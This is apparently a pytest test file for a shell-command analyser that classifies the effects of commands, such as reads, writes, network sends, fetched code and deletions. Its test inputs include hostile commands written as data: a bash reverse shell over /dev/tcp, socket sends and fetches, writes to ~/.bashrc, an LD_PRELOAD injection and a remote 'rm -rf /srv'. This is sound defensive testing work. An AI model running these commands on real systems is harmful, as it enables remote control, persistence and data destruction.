"""Invocations: wrappers taken off, effects of redirections and assignments, spans, and what is taken for granted."""

from __future__ import annotations

import pytest

from sandguard.commands.effects import ChangesEnvironment, Deletes, Fetches, Reads, RunsCode, Sends, Writes
from sandguard.flow import evaluate
from sandguard.flow.invoke import BUILT_IN
from sandguard.shell import parse
from sandguard.source import Source
from sandguard.values import Known
from tests.flow.evaluations import PLACE, calls, program


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -la", ["ls -la"]),
        ("sudo -u root rm x", ["sudo: rm x"]),
        ("sudo env A=1 nice -n 5 rm x", ["sudo: env: nice: rm x"]),
        ("xargs -n1 rm", ["xargs: rm ?"]),
        ("echo 'a b' | xargs rm", ["echo a b", "xargs: rm a b"]),
        ("echo a | xargs -I{} cp {} {}.bak", ["echo a", "xargs: cp a a.bak"]),
        ("command -v rm", ["command -v rm"]),
        ("time rm x", ["rm x"]),
        ("! rm x", ["rm x"]),
        ("a | b && c || d; e & f", ["a", "b", "c", "d", "e", "f"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
        ("case x in a) b;; c) d;; esac", ["b", "d"]),
        ("select x in a; do b; done", ["b"]),
        ("{ a; (b); }", ["a", "b"]),
        ('a $(b) `c` <(d) "$(e)" $((f + $(g)))', ["b", "c", "d", "e", "g", "a ? ? ? ? ?"]),
        ("cat <<EOF\n$(a)\nEOF", ["a", "cat"]),
        ("x=$(a) y=$(b)", ["a", "b"]),
        ("> $(a) b", ["a", "b"]),
        ("[[ -n $(a) && $(b) == c ]]", ["a", "b"]),
        ("for ((i=$(a); i<3; i++)); do b; done", ["a", "b"]),
        ("echo ${x:-$(a)} ${x/$(b)/$(c)} ${x[$(d)]}", ["a", "b", "c", "d", "echo ? ? ?"]),
        ("exit; a", ["exit", "a"]),
        ("/bin/b?sh -c 'rm x'", ["/bin/bash -c rm x", "rm x"]),
        ("for s in bash sh; do $s -c 'rm x'; done", ["bash -c rm x", "rm x", "sh -c rm x", "rm x"]),
        ("$JAVA_HOME/bin/python3 -c 'print(1)'", ["? -c print(1)"]),
    ],
)
def test_every_command_is_listed(text: str, expected: list[str]) -> None:
    """Each command position is visited, in evaluation order, whether it is reached or not."""
    assert expected == calls(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("c > f", [(Writes, "/workspace/f")]),
        ("c >> f", [(Writes, "/workspace/f")]),
        ("c < f", [(Reads, "/workspace/f")]),
        ("c > /dev/null 2>&1", []),
        ("c 2> f", [(Writes, "/workspace/f")]),
        ("c &> f", [(Writes, "/workspace/f")]),
        ("c >& f", [(Writes, "/workspace/f")]),
        ("c >| f <> g", [(Writes, "/workspace/f"), (Reads, "/workspace/g"), (Writes, "/workspace/g")]),
        ("> f", [(Writes, "/workspace/f")]),
        ("{ c; } > f", [(Writes, "/workspace/f")]),
        ("cd /tmp && c > f", [(Writes, "/tmp/f")]),
        ("c > ~/.bashrc", [(Writes, "/home/user/.bashrc")]),
        ("f=out; c > $f", [(Writes, "/workspace/out")]),
        ("c >&2; c 2>&-; c <&3", []),
        ("c > >(d)", []),
        ("c <<< x", []),
        ("exec > f", [(Writes, "/workspace/f")]),
    ],
)
def test_redirections(text: str, expected: list[tuple[type, str]]) -> None:
    """A redirection reads or writes its file; descriptors and /dev/null are no files."""
    found = [
        (type(effect), effect.path.resolved.text)
        for invocation in program(text).invocations
        for effect in invocation.effects
        if isinstance(effect, Reads | Writes)
    ]

    assert expected == found


def test_redirection_alone() -> None:
    """A redirection without a command is an invocation without a name."""
    (invocation,) = program("> /etc/hosts").invocations

    assert (invocation.name.text, invocation.arguments) == ("", ())


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("echo x > /dev/tcp/192.0.2.1/80", Sends),
        ("cat < /dev/tcp/192.0.2.1/80", Fetches),
        ("exec 3<>/dev/udp/192.0.2.1/53", Sends),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Sends),
    ],
)
def test_sockets(text: str, kind: type) -> None:
    """A path below /dev/tcp or /dev/udp is a connection."""
    assert any(isinstance(effect, kind) for invocation in program(text).invocations for effect in invocation.effects)


def test_reverse_shell_reads_the_network() -> None:
    """What a shell reads from a connection is fetched code."""
    uses = program("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1").code_uses

    assert [origin for use in uses for origin in use.value.origins] == ["network"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A=1 make", [("A", "1")]),
        ("export A=1", [("A", "1")]),
        ("A=1; export A", [("A", "1")]),
        ("A=1", []),
        ("PATH=/tmp:$PATH", [("PATH", None)]),
        ("LD_PRELOAD=./x.so", [("LD_PRELOAD", "./x.so")]),
        ("IFS=,", [("IFS", ",")]),
        ("env A=1 make", [("A", "1")]),
        ("declare -x A=1", [("A", "1")]),
        ("set -a; A=1", [("A", "1")]),
        ("export A=1; A=2", [("A", "1"), ("A", "2")]),
        ("local A=1", []),
    ],
)
def test_changed_environment(text: str, expected: list[tuple[str, str | None]]) -> None:
    """Variables that other programs see, and those that change the shell itself, are effects."""
    found = [
        (effect.name, effect.value.text)
        for invocation in program(text).invocations
        for effect in invocation.effects
        if isinstance(effect, ChangesEnvironment)
    ]

    assert expected == found


@pytest.mark.parametrize(
    "text", ["bash x.sh", "./x.sh", "source x.sh", ". ./x.sh", "scripts/run --all", "bash scripts/$x.sh"]
)
def test_local_scripts_are_assumptions(text: str) -> None:
    """A script that is not read is taken for granted, as running it would be."""
    found = program(text)

    assert found.gaps == ()
    assert found.code_uses == ()
    assert found.assumptions


@pytest.mark.parametrize(
    ("text", "path"), [("./x.sh", "/workspace/x.sh"), ("/tmp/tool -v", "/tmp/tool"), ("bash x.sh", "/workspace/x.sh")]
)
def test_scripts_are_effects(text: str, path: str) -> None:
    """Which file is run is among the effects, however it is run."""
    (effect,) = [e for e in program(text).invocations[0].effects if isinstance(e, RunsCode)]

    assert effect.path is not None
    assert path == effect.path.resolved.text


def test_output_of_a_local_program_is_its_own_origin() -> None:
    """What a local program prints and a shell executes is known by the program's name."""
    (use,) = program('eval "$(ssh-agent -s)"').code_uses

    assert {"command:ssh-agent"} == use.value.origins


@pytest.mark.parametrize("text", ["$x foo", '"$CMD"', "${a[0]} x", "$1"])
def test_unknown_command(text: str) -> None:
    """A command word that is not known is a use of code in command position."""
    (use, *_) = program(text).code_uses

    assert (use.position, use.is_judged) == ("command", False)


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ("sh -c 'rm x'", "rm"),
        ("sudo bash -c 'cd /tmp; rm x'", "rm"),
        ("x='rm x'; eval \"$x\"", "rm"),
        ("bash <<'EOF'\nrm x\nEOF", "rm"),
        ("trap 'rm x' EXIT", "rm"),
        ("sh -c \"sh -c 'rm x'\"", "rm"),
        ("find . -exec sh -c 'rm x' \\;", "rm"),
        ("f() { rm x; }; f", "rm"),
    ],
)
def test_spans_lead_back(text: str, inner: str) -> None:
    """A span lies in the text of its own source, and leads back to a place in the text that was given."""
    for invocation in program(text).invocations:
        source = invocation.source
        assert source.root().text == text
        assert 0 <= invocation.span.start <= invocation.span.end <= len(source.text)
        outer = source.outermost(invocation.span)
        assert 0 <= outer.start <= outer.end <= len(text)
        if invocation.name.text == inner:
            assert source.excerpt(invocation.name_span) == inner


def test_links_are_followed() -> None:
    """What is written to a link of the text is written to what it leads to."""
    effects = program("ln -s ~/.bashrc notes; echo x >> notes").invocations[-1].effects

    assert {"/workspace/notes", "/home/user/.bashrc"} == {
        e.path.resolved.text for e in effects if isinstance(e, Writes)
    }


def test_the_other_side_has_its_own_files() -> None:
    """Text that another machine executes is evaluated, with paths that are not here and files that are not ours."""
    found = program("echo 'rm x' > f; ssh host.example.com 'sh f; rm -rf /srv'")
    deletes = [e for i in found.invocations for e in i.effects if isinstance(e, Deletes)]

    assert [(e.path.resolved.text, e.path.scope) for e in deletes] == [("/srv", "remote")]


def test_built_ins_without_a_handler_are_known() -> None:
    """A built-in that changes nothing is no unknown program; what only other shells have built in is one."""
    for name in sorted(BUILT_IN - {"float", "integer", "nameref", "print", "setopt"}):
        (invocation, *_) = program("[ x ]" if name == "[" else name).invocations
        assert invocation.is_known, name


def test_words_too_many_to_build_consume_without_bound() -> None:
    """A word that becomes very many is not built, and is an effect of its command."""
    (invocation,) = program("echo {1..1000000000}").invocations

    assert [type(effect).__name__ for effect in invocation.effects] == ["ConsumesUnbounded"]


def test_variables_that_are_given() -> None:
    """Known environment variables are used; others stay unknown."""
    script = parse(Source("c $A $B"))
    (invocation,) = evaluate(script, PLACE, variables={"A": "x"}).invocations

    assert [argument.text for argument in invocation.arguments] == ["x", None]


def test_input_that_is_given() -> None:
    """Standard input that the caller knows is what the commands read."""
    script = parse(Source("read x; $x"))
    found = evaluate(script, PLACE, stdin=Known("rm x\n"))

    assert found.invocations[-1].name.text == "rm"
